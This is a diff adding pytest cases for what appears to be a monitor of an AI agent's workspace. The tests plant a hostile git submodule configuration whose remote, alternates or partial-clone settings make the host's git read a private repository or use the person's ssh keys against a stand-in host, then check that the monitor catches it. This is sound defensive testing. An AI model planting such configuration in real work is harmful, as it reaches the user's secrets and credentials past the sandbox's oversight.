@@ -265,11 +265,104 @@ def test_a_submodule_of_the_agents_runs_nothing(bed, start_server, with_submodul
     await_watched(server, session)
     script = "cd /workspace && " + plant.replace("MARK", f"{precious}/ran")
     bed.attack(session["id"], script, user)
-    [change] = await_broken(server, session)["changes"]
-    assert change["path"] == f"{with_submodule}/.git/modules/sub/{told}"
+    changes = await_broken(server, session)["changes"]
+    assert f"{with_submodule}/.git/modules/sub/{told}" in [change["path"] for change in changes]
     [listed] = server.get("/api/sessions").json
     [warning] = [words for words in listed["warnings"] if "has no seal" in words]
     assert warning.startswith(f"{with_submodule}/.git/modules/sub came after the start")
     act(with_submodule, UPDATE)
     act(with_submodule, "-C sub fetch")
     assert not (precious / "ran").exists()
+
+
+# A Git folder of a submodule that names no program. SECRET is a repository of the person's. It comes into .git last, as
+# the container may be frozen a moment later.
+PLANT_REMOTE = r"""rm -rf .git/modules/sub sub /tmp/made && mkdir -p .git/modules sub && git init -q -b main /tmp/made
+set -- -c user.name=a -c user.email=a@b -c safe.directory='*'
+printf 'gitdir: /tmp/made/.git\n' >sub/.git && echo s >sub/s
+git -C sub "$@" add s && git -C sub "$@" commit -qm s && tree=$(git -C sub "$@" rev-parse 'HEAD^{tree}')
+printf '[submodule "sub"]\n\tpath = sub\n\turl = https://x.invalid/y\n\tfetchRecurseSubmodules = true\n' >.gitmodules
+git "$@" add .gitmodules sub && git "$@" commit -qm sub
+printf 'gitdir: ../.git/modules/sub\n' >sub/.git && cd /tmp/made/.git && rm -rf hooks
+printf '[core]\n\trepositoryformatversion = 1\n\tbare = false\n\tworktree = ../../../sub\n' >config
+printf '[remote "origin"]\n\turl = %s\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n' 'URL' >>config
+MORE
+cd "$OLDPWD" && cp -r /tmp/made/.git .git/modules/sub
+"""
+PARTIAL = r"""
+printf '\tpromisor = true\n\tpartialclonefilter = blob:none\n[extensions]\n\tpartialclone = origin\n' >>config
+rm -f "objects/${tree%"${tree#??}"}/${tree#??}"
+"""
+REACHING = {  # with the URL, what is planted, what of it is put aside, and the command of git on the host
+    "a fetch reads a repository": ("SECRET", "", "config", "fetch"),
+    "a fetch uses the keys": ("ssh://git@x.invalid/private", "", "config", "fetch"),
+    "a status fetches": ("ssh://git@x.invalid/private", PARTIAL, "config", "status"),
+    "objects of another repository": (
+        "https://x.invalid/y",
+        "echo SECRET/.git/objects >objects/info/alternates",
+        "objects/info/alternates",
+        "-C sub cat-file -e COMMIT",
+    ),
+}
+
+
+class Reach:
+    """What git on the host could reach in the person's name: a repository with one commit, and hosts by ssh."""
+
+    def __init__(self, repository, home):
+        self.repository = repository
+        self.mark = home / "ssh"
+        self.settings = home / "gitconfig"
+        self.settings.write_text("[safe]\n\tdirectory = *\n")
+        git(repository, "commit", "-q", "--allow-empty", "-m", "TOPSECRET")
+        self.commit = git(repository, "rev-parse", "HEAD").strip()
+
+    def plan(self, name):
+        """The script of an attacker, and what the person does then."""
+        url, more, _, words = REACHING[name]
+        script = PLANT_REMOTE.replace("MORE", more).replace("URL", url).replace("SECRET", str(self.repository))
+        return script, words.replace("COMMIT", self.commit).split()
+
+    def is_successful(self, workspace, words):
+        """Run git on the host; whether it reached the repository or a host."""
+        environ = {**os.environ, "GIT_CONFIG_GLOBAL": str(self.settings), "GIT_CONFIG_SYSTEM": "/dev/null"}
+        environ["GIT_SSH_COMMAND"] = f"touch {self.mark}; false"
+        done = subprocess.run(["git", "-C", str(workspace), *words], env=environ, capture_output=True, check=False)
+        is_read = words[-1] == self.commit and done.returncode == 0
+        copies = (workspace / ".git/modules/sub/objects").rglob(self.commit[2:])
+        return self.mark.exists() or is_read or any(copies)
+
+
+@pytest.fixture
+def reach(make_workspace, precious):
+    return Reach(make_workspace("secret"), precious)
+
+
+@pytest.fixture
+def with_remote(side, make_workspace):
+    """A workspace from which git fetches."""
+    git(side, "remote", "add", "origin", str(make_workspace("upstream")))
+    git(side, "config", "submodule.sub.url", "https://x.invalid/y")
+    subprocess.run(["chown", "-R", "1000:1000", side], check=True)
+    return side
+
+
+@pytest.mark.parametrize("name", REACHING)
+def test_a_submodule_without_a_program_makes_git_reach_elsewhere_where_nobody_watches(with_remote, reach, name):
+    script, words = reach.plan(name)
+    subprocess.run(["sh", "-ec", script], cwd=with_remote, check=True)
+    subprocess.run(["rm", "-rf", "/tmp/made"], check=True)
+    assert reach.is_successful(with_remote, words)
+
+
+@pytest.mark.parametrize("name", REACHING)
+def test_a_submodule_makes_git_reach_nothing_that_the_agent_has_chosen(bed, start_server, with_remote, reach, name):
+    server = start_server(config=NO_CHECKPOINTS)
+    session = server.create(with_remote)
+    await_watched(server, session)
+    script, words = reach.plan(name)
+    bed.attack(session["id"], f"cd /workspace\n{script}", 1000)
+    found = await_broken(server, session)
+    assert f"{with_remote}/.git/modules/sub/{REACHING[name][2]}" in [one["path"] for one in found["changes"]]
+    assert git(with_remote, "rev-parse", ":sub")  # the rest of what was planted is there
+    assert not reach.is_successful(with_remote, words)
